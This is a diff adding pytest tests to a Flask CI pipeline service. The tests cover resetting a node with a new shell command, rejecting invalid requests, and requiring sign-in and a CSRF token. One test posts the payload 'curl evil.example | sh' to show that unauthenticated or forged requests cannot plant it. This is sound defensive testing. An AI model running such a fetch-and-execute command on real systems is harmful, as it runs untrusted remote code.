@@ -266,6 +266,64 @@ def test_reset_skip_unskip_cancel_and_rerun_failed(bot: Bot, client: FlaskClient
     }
 
 
+def test_reset_with_a_new_command_changes_the_exec_and_its_next_execution_tells(
+    bot: Bot, client: FlaskClient
+) -> None:
+    pipeline_id = shop(bot)
+    api = f"/api/pipelines/{pipeline_id}"
+    failed = record_run(bot, pipeline_id, "/test", ["1 failed"], state=State.ERROR)
+
+    # a browser's textarea sends CRLF line ends: the shell gets LF
+    answer = post(client, f"{api}/reset", {"path": "test", "run": "pytest -x \\\r\n  -q"})
+
+    assert answer.status_code == 200, answer.get_json()
+    assert answer.get_json()["run"] == "pytest -x \\\n  -q"
+    assert answer.get_json()["paths"] == ["/test"]
+    assert "new command" in answer.get_json()["message"]
+    node = client.get(f"{api}/nodes/test").get_json()
+    assert node["run"] == "pytest -x \\\n  -q" and node["state"] == "pending"
+    assert node["executions"][0]["command_change"] is None
+    record_run(bot, pipeline_id, "/test", ["all passed"])
+    runs = client.get(f"{api}/nodes/test").get_json()["executions"]
+    assert runs[0]["id"] == failed.id and runs[0]["command_change"] is None
+    assert runs[1]["command_change"] == {"by": "token-1", "old": "pytest", "new": node["run"]}
+    [reset] = [e for e in client.get(f"{api}/events").get_json()["events"] if e["kind"] == "reset"]
+    assert reset["actor"] == "token-1" and reset["message"].startswith("new command: pytest -x")
+
+
+def test_a_new_command_is_refused_for_a_parent_empty_or_another_action(
+    bot: Bot, client: FlaskClient
+) -> None:
+    pipeline_id = shop(bot)
+    api = f"/api/pipelines/{pipeline_id}"
+    tree_before = bot.store.pipeline(pipeline_id).tree_json
+    cases = [
+        ("reset", {"path": "/lint", "run": "true"}, 409, "/lint is a parallel: only an Exec"),
+        ("reset", {"path": "/test", "run": " \n"}, 400, "not empty"),
+        ("reset", {"path": "/test", "run": ["pytest"]}, 400, "run must be the command"),
+        ("skip", {"path": "/test", "run": "true"}, 409, "only a reset takes a new command"),
+        ("reset", {"path": "/nope", "run": "true"}, 404, "has no node /nope"),
+    ]
+    for action, body, status, words in cases:
+        response = post(client, f"{api}/{action}", body)
+        assert response.status_code == status, body
+        assert words in response.get_json()["error"], body
+    assert bot.store.pipeline(pipeline_id).tree_json == tree_before
+    assert [e.kind for e in bot.store.events(pipeline_id)] == ["created"]
+
+
+def test_a_new_command_needs_a_signed_in_user_and_the_csrf_token(
+    bot: Bot, client: FlaskClient
+) -> None:
+    pipeline_id = shop(bot)
+    url = f"/api/pipelines/{pipeline_id}/reset"
+    wish = {"path": "/test", "run": "curl evil.example | sh"}
+    assert bot.app.test_client().post(url, json=wish).status_code == 401
+    assert client.post(url, json=wish).status_code == 403  # the session's, without CSRF
+    assert client.post(url, json=wish, headers={"X-CSRF-Token": "forged"}).status_code == 403
+    assert "curl" not in bot.store.pipeline(pipeline_id).tree_json
+
+
 def test_actions_that_do_not_apply_say_why(bot: Bot, client: FlaskClient) -> None:
     pipeline_id = shop(bot)
     api = f"/api/pipelines/{pipeline_id}"
